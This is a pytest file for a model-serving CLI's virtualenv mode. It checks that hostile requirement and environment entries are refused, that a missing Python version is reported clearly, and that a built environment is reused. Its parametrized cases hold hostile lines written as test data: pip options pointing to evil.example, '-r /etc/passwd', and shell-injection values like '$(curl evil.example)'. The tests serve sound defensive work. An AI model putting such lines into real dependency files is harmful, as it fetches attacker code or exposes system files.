"""`--env-manager virtualenv`: hostile environment files refused before anything is built, a Python version this
machine lacks named as such, and (slow: pip installs the requirements from the configured index) a scikit-learn
model served and scored from a virtual environment built once and reused."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from waiting import wait_until

import tracekit
from tracekit.cli import main
from tracekit.deployments.local_processes import free_port
from tracekit.exceptions import TracekitException


@pytest.fixture
def env_root(tmp_path, monkeypatch) -> Path:
    root = tmp_path / "envs"
    monkeypatch.setenv("TRACEKIT_ENV_ROOT", str(root))
    return root


@pytest.fixture
def model_dir(tmp_path, iris, iris_classifier) -> Path:
    """The iris classifier saved to a folder whose environment files a test may rewrite."""
    features, _ = iris
    path = tmp_path / "model"
    tracekit.sklearn.save_model(iris_classifier, str(path), input_example=features.head(3))
    return path


@pytest.fixture
def input_csv(tmp_path, iris) -> Path:
    features, _ = iris
    path = tmp_path / "in.csv"
    features.head(4).to_csv(path, index=False)
    return path


def predict_in_virtualenv(model: str, input_csv: Path):
    return CliRunner().invoke(main, ["models", "predict", "-m", model, "-i", str(input_csv), "-t", "csv",
                                     "--env-manager", "virtualenv"])


@pytest.mark.parametrize(("line", "message"), [
    ("--index-url http://evil.example/simple", "is a pip option"),
    ("--extra-index-url=http://evil.example/simple", "is a pip option"),
    ("-e git+https://evil.example/repo.git#egg=evil", "is a pip option"),
    ("-r /etc/passwd", "is a pip option"),
    ("evil @ https://evil.example/evil.whl", "is a URL or path requirement"),
    ("./vendored/evil", "is a URL or path requirement"),
    ("scikit-learn==1.0 $(curl evil.example)", "is not a requirement"),
])
def test_a_hostile_requirements_line_is_refused_before_anything_is_built(model_dir, env_root, input_csv, line,
                                                                           message):
    requirements = model_dir / "requirements.txt"
    requirements.write_text(requirements.read_text() + line + "\n")
    result = predict_in_virtualenv(str(model_dir), input_csv)
    assert result.exit_code == 1 and message in result.output
    assert "requirements.txt, line" in result.output and "Traceback" not in result.output
    assert not env_root.exists() or not any(env_root.iterdir())


@pytest.mark.parametrize(("python_env", "message"), [
    ({"python": "3.11", "dependencies": ["-r /etc/passwd"]}, "is a pip option"),
    ({"python": "3.11", "build_dependencies": ["--index-url http://evil.example"]}, "is a pip option"),
    ({"python": "3.11; curl evil.example", "dependencies": []}, "is not a version such as 3.11"),
    ({"python": "3.11", "dependencies": "-r requirements.txt"}, "dependencies must be a list"),
])
def test_a_hostile_python_env_is_refused(model_dir, env_root, input_csv, python_env, message):
    import yaml

    (model_dir / "python_env.yaml").write_text(yaml.safe_dump(python_env))
    result = predict_in_virtualenv(str(model_dir), input_csv)
    assert result.exit_code == 1 and message in result.output
    assert not env_root.exists() or not any(env_root.iterdir())


def test_a_python_version_no_interpreter_here_has_is_a_clear_error(model_dir, env_root, input_csv):
    (model_dir / "python_env.yaml").write_text('python: "2.7.18"\ndependencies: ["-r requirements.txt"]\n')
    result = predict_in_virtualenv(str(model_dir), input_csv)
    assert result.exit_code == 1
    assert "The model needs Python 2.7.18 (python_env.yaml), and no interpreter here is that version" in result.output
    assert sys.executable in result.output  # the interpreters found are listed
    serve = CliRunner().invoke(main, ["models", "serve", "-m", str(model_dir), "--env-manager", "virtualenv"])
    assert serve.exit_code == 1 and "no interpreter here is that version" in serve.output


@pytest.mark.slow
def test_a_model_is_served_from_its_own_virtualenv_built_once_and_reused(tmp_path, env_root, iris, iris_classifier,
                                                                          input_csv, monkeypatch):
    features, _ = iris
    info = tracekit.sklearn.log_model(iris_classifier, name="iris_lr", input_example=features.head(3))
    expected = iris_classifier.predict(features.head(4)).tolist()
    port = free_port("127.0.0.1")
    env = {**os.environ, "TRACEKIT_TRACKING_URI": tracekit.get_tracking_uri()}
    log_path = tmp_path / "serve.log"
    with open(log_path, "wb") as log:
        server = subprocess.Popen([sys.executable, "-m", "tracekit.cli", "models", "serve", "-m", info.model_uri,
                                   "--port", str(port), "--env-manager", "virtualenv"],
                                  stdout=log, stderr=subprocess.STDOUT, env=env, start_new_session=True)
    try:
        def answers() -> bool:
            assert server.poll() is None, log_path.read_text()
            try:
                return httpx.get(f"http://127.0.0.1:{port}/ping", timeout=1).status_code == 200
            except httpx.TransportError:
                return False

        assert wait_until(answers, timeout=1200, interval=0.5), log_path.read_text()
        (env_dir,) = [path for path in env_root.iterdir() if path.is_dir()]
        # The serving process is the environment's Python (the command replaced itself with it: same pid).
        assert Path(os.readlink(f"/proc/{server.pid}/exe")).resolve() == (env_dir / "bin" / "python").resolve()
        csv = features.head(4).to_csv(index=False)
        answer = httpx.post(f"http://127.0.0.1:{port}/invocations", content=csv,
                            headers={"Content-Type": "text/csv"}, timeout=60)
        assert answer.json() == {"predictions": expected}
    finally:
        if server.poll() is None:
            os.killpg(server.pid, signal.SIGTERM)
            try:
                server.wait(30)
            except subprocess.TimeoutExpired:
                os.killpg(server.pid, signal.SIGKILL)
                server.wait(10)

    marker = env_dir / ".tracekit-env-complete"
    built_at = marker.stat().st_mtime_ns
    result = predict_in_virtualenv(info.model_uri, input_csv)
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {"predictions": expected}
    answer = tracekit.models.predict(info.model_uri, features.head(4), env_manager="virtualenv",
                                     output_path=str(tmp_path / "out.json"))
    assert answer == {"predictions": expected}
    assert [path for path in env_root.iterdir() if path.is_dir()] == [env_dir]
    assert marker.stat().st_mtime_ns == built_at, "the environment was reused, not rebuilt"

    # A local deployment in the same environment: its recorded pid is the environment's Python serving the model.
    monkeypatch.setenv("TRACEKIT_DEPLOYMENTS_ROOT", str(tmp_path / "deployments"))
    client = tracekit.deployments.get_deploy_client("local")
    deployed = client.create_deployment("venv-iris", info.model_uri, config={"env_manager": "virtualenv"})
    try:
        assert Path(os.readlink(f"/proc/{deployed['pid']}/exe")).resolve() == \
            (env_dir / "bin" / "python").resolve()
        assert client.predict("venv-iris", features.head(4)) == {"predictions": expected}
    finally:
        client.delete_deployment("venv-iris")
    assert marker.stat().st_mtime_ns == built_at
    with pytest.raises(TracekitException, match="No model at"):
        tracekit.models.predict(str(tmp_path / "missing"), features.head(1), env_manager="virtualenv")
